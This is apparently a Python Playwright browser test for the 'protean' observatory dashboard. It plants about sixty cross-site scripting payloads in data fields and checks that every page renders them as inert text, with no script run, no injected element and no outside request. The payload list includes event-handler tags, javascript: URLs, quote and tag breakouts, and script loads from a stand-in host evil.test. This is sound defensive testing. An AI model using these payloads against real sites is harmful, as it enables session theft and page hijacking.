"""Text that others wrote stays text: payloads put wherever it comes from, looked at in Chromium on every page.

The pages' own policy, which would stop a script that got in, is turned off here: nothing may get in.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, expect
from tests.observatory.conftest import PATIENCE, Watched
from tests.observatory.test_actions import letters
from tests.server.conftest import Cluster

from protean.clock import utc_now
from protean.ports.control import Operation, OperationState
from protean.server.control import Controls

pytestmark = pytest.mark.browser

_DO = "window.__xss=1"
_TAGS = (
    "img src=x onerror={}", "svg onload={}", "svg/onload={}", "body onload={}", "iframe onload={}",
    "input autofocus onfocus={}", "select autofocus onfocus={}", "textarea autofocus onfocus={}",
    "video src=x onerror={}", "audio src=x onerror={}", "details open ontoggle={}", "marquee onstart={}",
    "object data=x onerror={}", "embed src=x onload={}", "style onload={}", "link rel=stylesheet href=x onerror={}",
    "video><source onerror={}", "image src=x onerror={}", "iframe src=javascript:{}",
    "iframe srcdoc='<script>parent.{}</script>'", "a href=javascript:{}", "form action=javascript:{}",
    "button formaction=javascript:{}", "math><mtext href=javascript:{}", "base href=//evil.test/",
    "meta http-equiv=refresh content=0;url=//evil.test", "object data=javascript:{}",
    "div style=animation-name:x onanimationstart={}", "x tabindex=1 autofocus onfocus={}", "svg><animate onbegin={}",
    "svg><set onbegin={}", "svg><script>{}</script", "IMG SRC=x OnErRoR={}", "img src=`x` onerror={}",
    "img\tsrc=x\tonerror={}",
)  # fmt: skip
_WAYS_OUT = (
    "\">{}", "'>{}", "</script>{}", "</style>{}", "</textarea>{}", "</title>{}", "</template>{}", "</dialog>{}",
    "-->{}", "<!--><{}", "]]>{}", "</pre>{}", "</svg>{}", "</select>{}", "</code></td></table>{}",
)  # fmt: skip
PAYLOADS = [
    *[f"<{tag.format(_DO)}>" for tag in _TAGS],
    *[way.format(f"<img src=x onerror={_DO}>") for way in _WAYS_OUT],
    f"<script>{_DO}</script>",
    "<script src=//evil.test/x.js></script>",
    f'" onmouseover="{_DO}" autofocus onfocus="{_DO}" x="',
    f"' autofocus onfocus='{_DO}' x='",
    f"javascript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    "{{ ().__class__ }}<b>{% raw %}",
    f"${{{_DO}}}`{_DO}`",
    f'{{"__proto__": {{"x": "<img src=x onerror={_DO}>"}}}}',
    "&lt;img src=x onerror=window.__xss=1&gt;",
    r"\u003cimg src=x onerror=window.__xss=1\u003e",
    "<<img src=x onerror=window.__xss=1>>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<img src=x onerror=window.__xss=1>\N{LEFT-TO-RIGHT ISOLATE}",
]

#: Elements that pages do not have, or that something dangerous hangs on.
MADE = """() => [...document.querySelectorAll('*')].filter((e) =>
    e.closest('main, dialog, .side, .strip') && new RegExp(
        '^(img|image|iframe|script|object|embed|math|style|link|base|meta|video|audio|details|marquee|animate|set|x)$'
    ).test(e.localName)
    || [...e.attributes].some((a) => /^on/i.test(a.name)
        || /^(href|src|action|formaction|data)$/.test(a.name) && /^\\s*javascript:|^\\/\\/evil/i.test(a.value))
).map((e) => e.outerHTML.slice(0, 200))"""


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.fixture
def poisoned(observe: Callable[..., Watched], cluster: Cluster) -> Watched:
    """Payloads as identities, owners, errors, reasons, actors, results, settings and steps."""
    cluster.config["server"]["retry"] = {"max_retries": 0}
    cluster.config["custom"] = {"texts": PAYLOADS, PAYLOADS[0]: "x"}
    bank, dead = cluster.bank, list(dict.fromkeys(PAYLOADS))[::6]
    for payload in dead:
        bank.open(payload)
        bank.rename(payload, "".join(PAYLOADS))

    def refuse(event: Any) -> None:
        raise ValueError(event.account_id + "".join(PAYLOADS))

    cluster.start(between=refuse)
    letters(cluster, len(dead))
    controls = Controls(bank.domain)
    for handler in ("LedgerProjector", "Postman"):
        for lane in ("primary", "backfill"):
            why = "".join(PAYLOADS)[:490]
            controls.pause(handler, lane, reason=why, actor="".join(PAYLOADS)[500:690], lasting=timedelta(hours=1))
    now = utc_now()
    for number, text in enumerate(PAYLOADS):
        state = OperationState.FAILED if number % 2 else OperationState.DONE
        controls.record(
            Operation(
                id=f"op{number}",
                kind=text[:40],
                actor=text,
                target=text,
                reason=text,
                state=state,
                done=1,
                total=1,
                result=text,
                error=text if number % 2 else "",
                started_at=now,
                told_at=now,
            )
        )
    return observe(config=cluster.config)


def test_no_text_of_others_becomes_anything_but_text(poisoned: Watched, cluster: Cluster, browser: Browser) -> None:
    context = browser.new_context(bypass_csp=True, viewport={"width": 1280, "height": 800})
    tab = context.new_page()
    tab.set_default_timeout(PATIENCE)
    wrong: list[str] = []
    tab.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    tab.on("request", lambda asked: None if asked.url.startswith(poisoned.url) else wrong.append(asked.url))
    entries = poisoned.json("/api/dlq/entries")["entries"]
    asked = quote("".join(PAYLOADS)[:950])
    addresses = [
        *("/", "/lanes", "/backfills", "/subscriptions", "/workers", "/operations", "/config", "/dlq"),
        *(
            f"/config?type={quote(PAYLOADS[0])}&priority={quote(PAYLOADS[1])}",
            f"/lanes?q={asked}",
            f"/messages/{quote(PAYLOADS[0])}",
        ),
        f"/dlq?handler={asked}&error={asked}&group={asked}",
        *[f"/dlq/{quote(each['place'])}" for each in entries[:3]],
        f"/flow?type={asked[:180]}&category={asked}&lane={asked}&event={asked}",
    ]

    def look() -> None:
        assert tab.evaluate("window.__xss") is None, tab.url
        assert tab.evaluate(MADE) == [], tab.url

    for address in addresses:
        tab.goto(f"{poisoned.url}{address}")
        expect(tab.locator("#connection")).to_have_text("live", timeout=PATIENCE)
        look()
    assert entries, "the letters were looked at"

    tab.goto(f"{poisoned.url}/messages/{quote(entries[0]['message_id'])}")
    tab.locator("[data-reveal]").click()
    expect(tab.locator("#data pre")).to_be_visible()
    look()

    tab.goto(f"{poisoned.url}/flow")
    expect(tab.locator("#flow-state")).to_have_text("live", timeout=PATIENCE)
    names = ("event", "timestamp", "stream", "handler", "worker", "message_id", "message_type", "priority", "error")
    steps = [dict.fromkeys(names, payload) for payload in PAYLOADS]
    for _ in range(200):  # until the feed reads, within a second or so
        if tab.locator("tbody tr").count():
            break
        cluster.bank.domain.broker().publish_traces([json.dumps(steps).encode()], 100)
        tab.wait_for_timeout(300)
    expect(tab.locator("tbody tr").first).to_be_visible()
    look()
    assert not wrong
    context.close()
